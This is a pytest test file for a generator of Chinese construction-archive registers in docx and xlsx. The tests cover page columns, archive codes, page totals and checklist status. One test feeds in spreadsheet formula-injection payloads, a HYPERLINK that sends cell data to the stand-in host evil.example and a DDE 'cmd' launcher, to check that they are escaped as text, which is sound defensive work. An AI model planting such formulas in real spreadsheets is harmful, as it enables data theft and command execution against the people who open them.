"""Archive registers from plain data: page ranges, 档号, page totals, checklist status, xlsx."""

from __future__ import annotations

from datetime import date, datetime
from pathlib import Path

import pytest
from docx import Document
from openpyxl import load_workbook

from dangan.archive import registers as R
from dangan.indexer.errors import ConfigError, UsageError

PROJECT = {"code": "BJ-2024-017", "name": "安居花园3号楼", "company": "示例建设 & <工程> 有限公司"}
SETTINGS = {
    "fonds": "0123",
    "category": "WS",
    "org": "GC",
    "pattern": "{fonds}-{category}·{year}-{retention}-{org}-{seq:04d}",
}


def entry(
    i: int, title: str, pages, *, code="C01", mime="application/pdf", retention="永久", day=date(2024, 3, 1), number=""
):
    return {"id": i, "doc_number": number, "person": "张伟", "title": title, "document_date": day, "pages": pages,
            "remarks": "", "item_code": code, "item_title": "", "mime_type": mime, "retention": retention}  # fmt: skip


ENTRIES = [
    entry(1, "施工合同书", 5, number="HT-2024-01"),
    entry(2, "开工报告", 2, code="C02", day=date(2024, 3, 15)),
    entry(3, "土建建施竣工图", 4, code="D01", retention="长期", day=date(2024, 9, 1)),
    entry(4, "现场照片", 1, code="C09", mime="image/jpeg", day=None),
    entry(5, "竣工报告", 3, code="C13", day=date(2024, 9, 20)),
]
CHECKLIST = [
    {"number": 1, "code": "C01", "group": "土建施工文件资料", "title": "施工合同书", "role": "公司法人", "person": "王建国",
     "status": "filed", "documents": [1], "reason": ""},
    {"number": 2, "code": "C02", "group": "土建施工文件资料", "title": "开工报告", "role": "项目经理", "person": "张伟",
     "status": "filed", "documents": [2], "reason": ""},
    {"number": 5, "code": "C05", "group": "土建施工文件资料", "title": "设计变更通知单、核定单", "role": "内业技术员",
     "person": "李娜", "status": "missing", "documents": [], "reason": ""},
    {"number": 8, "code": "C08", "group": "土建施工文件资料", "title": "施工定位测量记录", "role": "测量员", "person": "",
     "status": "waived", "documents": [], "reason": "无新建测量"},
    {"number": 1, "code": "D01", "group": "竣工图", "title": "土建建施竣工图", "role": "土建内业技术员", "person": "孙丽",
     "status": "filed", "documents": [3], "reason": ""},
]  # fmt: skip


def rows_of(path: Path) -> list[list[str]]:
    return [[c.text for c in r.cells] for t in Document(path).tables for r in t.rows]


def test_page_column_counts_real_pages_and_ends_with_a_range():
    assert R.page_column(ENTRIES) == ["1", "6", "8", "12", "13-15"]
    assert R.page_column([entry(1, "a", 0), entry(2, "b", None), entry(3, "c", 1)]) == ["1", "2", "3-3"]
    assert R.page_column([]) == []


def test_volume_list_docx(tmp_path):
    out = R.render_register("卷内目录", PROJECT, ENTRIES, tmp_path / "卷内目录.docx")
    rows = rows_of(out)
    assert rows[0] == ["序号", "文件编号", "责任者", "文件题名", "日期", "页次", "备注"]
    assert rows[1] == ["1", "HT-2024-01", "张伟", "施工合同书", "20240301", "1", ""]
    assert rows[4] == ["4", "", "张伟", "现场照片", "", "12", ""]
    assert rows[5] == ["5", "", "张伟", "竣工报告", "20240920", "13-15", ""]
    paragraphs = [p.text for p in Document(out).paragraphs]
    assert paragraphs[0] == "示例建设 & <工程> 有限公司" and paragraphs[1] == "卷内目录"
    assert any(p.startswith("共 5 件，15 页。") for p in paragraphs)


def test_archive_codes_follow_the_pattern_and_count_per_year_and_retention():
    entries = [entry(i, f"文件{i}", 1, day=date(2024, 1, i)) for i in range(1, 8)]
    assert R.archive_codes(entries, SETTINGS)[-1] == "0123-WS·2024-Y-GC-0007"
    codes = R.archive_codes(ENTRIES, {**SETTINGS, "year": 2025})
    assert codes == ["0123-WS·2024-Y-GC-0001", "0123-WS·2024-Y-GC-0002", "0123-WS·2024-D30-GC-0001",
                     "0123-WS·2025-Y-GC-0001", "0123-WS·2024-Y-GC-0003"]  # fmt: skip


def test_retention_codes():
    assert [R.retention_code(r) for r in ("永久", "长期", "短期", "D10")] == ["Y", "D30", "D10", "D10"]
    with pytest.raises(UsageError, match="unknown retention '十年'; use 永久, 长期 or 短期"):
        R.retention_code("十年")


def test_a_pattern_that_cannot_be_filled_is_a_config_error():
    with pytest.raises(
        ConfigError, match=r"^\[archive_code\] pattern '\{fonds\}-\{box\}' in dangan.toml cannot be filled"
    ):
        R.archive_codes(ENTRIES, {**SETTINGS, "pattern": "{fonds}-{box}"})


def test_file_list_docx(tmp_path):
    out = R.render_register("归档文件目录", PROJECT, ENTRIES, tmp_path / "g.docx", settings={**SETTINGS, "year": 2024})
    rows = rows_of(out)
    assert rows[0] == ["序号", "档号", "文号", "责任者", "题名", "日期", "密级", "页数", "备注"]
    assert rows[1] == ["1", "0123-WS·2024-Y-GC-0001", "HT-2024-01", "张伟", "施工合同书", "20240301", "", "5", ""]
    assert rows[3][1] == "0123-WS·2024-D30-GC-0001"
    assert Document(out).sections[0].page_width > Document(out).sections[0].page_height  # landscape


def test_page_totals_split_drawings_photos_and_text():
    totals = R.page_totals(ENTRIES, CHECKLIST)
    assert (totals.total, totals.text, totals.drawings, totals.photos) == (15, 10, 4, 1)
    # a drawing item recognised by its checklist group even without a D code
    custom = [entry(1, "总平面图", 6, code="X7")]
    assert R.page_totals(custom, [{"code": "X7", "group": "竣工图"}]).drawings == 6


def test_volume_note_docx(tmp_path):
    settings = {"compiler": "李娜", "compiled_on": date(2024, 10, 8)}
    out = R.render_register("备考表", PROJECT, ENTRIES, tmp_path / "b.docx", checklist=CHECKLIST, settings=settings)
    rows = dict((r[0], r[1]) for r in rows_of(out))
    assert rows["本案卷共有文件材料"] == "15 页"
    assert rows["其中：文字材料"] == "10 页"
    assert rows["图样材料"] == "4 页"
    assert rows["照片"] == "1 张"
    assert rows["说明"] == "尚缺 1 项：5 设计变更通知单、核定单。"
    lines = [p.text for p in Document(out).paragraphs]
    assert "立卷人：李娜\u3000\u3000\u3000\u3000日期：2024年10月8日" in lines
    assert "审核人：＿＿＿＿＿＿\u3000\u3000\u3000\u3000日期：\u3000\u3000年\u3000\u3000月\u3000\u3000日" in lines


def test_checklist_register_shows_status_and_documents(tmp_path):
    out = R.render_register("一览表", PROJECT, ENTRIES, tmp_path / "y.docx", checklist=CHECKLIST)
    rows = rows_of(out)
    assert rows[1] == ["1", "土建施工文件资料", "施工合同书", "公司法人：王建国", "已归档", "施工合同书（HT-2024-01）"]
    assert rows[3] == ["5", "土建施工文件资料", "设计变更通知单、核定单", "内业技术员：李娜", "缺失", ""]
    assert rows[4][3:5] == ["测量员", "免交（无新建测量）"]
    assert any(p.text.startswith("共 5 项：已归档 3 项，缺 1 项，免 1 项。") for p in Document(out).paragraphs)


@pytest.mark.parametrize("kind,header", [
    ("卷内目录", ["序号", "文件编号", "责任者", "文件题名", "日期", "页次", "备注"]),
    ("归档文件目录", ["序号", "档号", "文号", "责任者", "题名", "日期", "密级", "页数", "备注"]),
    ("一览表", ["序号", "类别", "文件名称", "责任人", "状态", "已归档文件"]),
])  # fmt: skip
def test_tabular_registers_as_xlsx(tmp_path, kind, header):
    out = R.render_register(
        kind, PROJECT, ENTRIES, tmp_path / f"{kind}.xlsx", checklist=CHECKLIST, settings=SETTINGS, xlsx=True
    )
    ws = load_workbook(out).active
    values = [[c.value for c in row] for row in ws.iter_rows()]
    assert values[0][0] == ("科技档案一览表" if kind == "一览表" else kind)
    assert values[2] == header
    if kind == "卷内目录":
        # numbers are numbers and dates are dates (Excel sums and sorts them); 页次 is a range
        assert values[-1] == [5, None, "张伟", "竣工报告", datetime(2024, 9, 20), "13-15", None]
        assert ws.cell(row=len(values), column=5).number_format == "yyyymmdd"
    if kind == "归档文件目录":
        assert [values[-1][0], values[-1][5], values[-1][7]] == [5, datetime(2024, 9, 20), 3]


def test_xlsx_text_never_becomes_a_formula(tmp_path):
    hostile = [
        {**entry(1, '=HYPERLINK("http://evil.example/?x="&A1,"点击")', 2), "person": "==cmd|' /C calc'!A0"},
        {**entry(2, "+1+1", 1), "doc_number": "@SUM(A1:A2)", "remarks": "-2+3"},
    ]
    project = {**PROJECT, "name": "=1+1"}
    for kind in ("卷内目录", "归档文件目录"):
        out = R.render_register(kind, project, hostile, tmp_path / f"{kind}.xlsx", settings=SETTINGS, xlsx=True)
        ws = load_workbook(out).active
        cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
        assert not [c.coordinate for c in cells if c.data_type == "f"], "no cell may be a formula"
        texts = [c.value for c in cells if isinstance(c.value, str)]
        assert "'==cmd|' /C calc'!A0" in texts
        assert """'=HYPERLINK("http://evil.example/?x="&A1,"点击")""" in texts
        assert "'+1+1" in texts and "'-2+3" in texts
    assert "'@SUM(A1:A2)" in texts  # the 文号 column of the 归档文件目录


def test_volume_note_as_xlsx(tmp_path):
    out = R.render_register("备考表", PROJECT, ENTRIES, tmp_path / "b.xlsx", checklist=CHECKLIST)
    values = {r[0].value: r[1].value for r in load_workbook(out).active.iter_rows(min_row=4)}
    assert values["本案卷共有文件材料（页）"] == 15 and values["照片（张）"] == 1


def test_unknown_kind_and_mismatched_suffix(tmp_path):
    with pytest.raises(
        UsageError, match=r"^unknown register kind '案卷目录'; use one of 卷内目录\|一览表\|备考表\|归档文件目录$"
    ):
        R.render_register("案卷目录", PROJECT, ENTRIES, tmp_path / "x.docx")
    with pytest.raises(UsageError, match="a spreadsheet needs an .xlsx name"):
        R.render_register("卷内目录", PROJECT, ENTRIES, tmp_path / "x.docx", xlsx=True)


def test_an_empty_volume_still_renders(tmp_path):
    out = R.render_register("卷内目录", PROJECT, [], tmp_path / "e.docx")
    assert rows_of(out) == [["序号", "文件编号", "责任者", "文件题名", "日期", "页次", "备注"]]


def test_home_register_template_overrides_the_shipped_one(tmp_path):
    custom = tmp_path / "tpl" / "registers"
    custom.mkdir(parents=True)
    doc = Document(R.shipped_templates_dir() / "registers" / "卷内目录.docx")
    doc.paragraphs[1].runs[0].text = "卷内目录（公司格式）"
    doc.save(custom / "卷内目录.docx")
    out = R.render_register(
        "卷内目录", PROJECT, ENTRIES, tmp_path / "c.docx", settings={"templates_dir": str(tmp_path / "tpl")}
    )
    assert Document(out).paragraphs[1].text == "卷内目录（公司格式）"
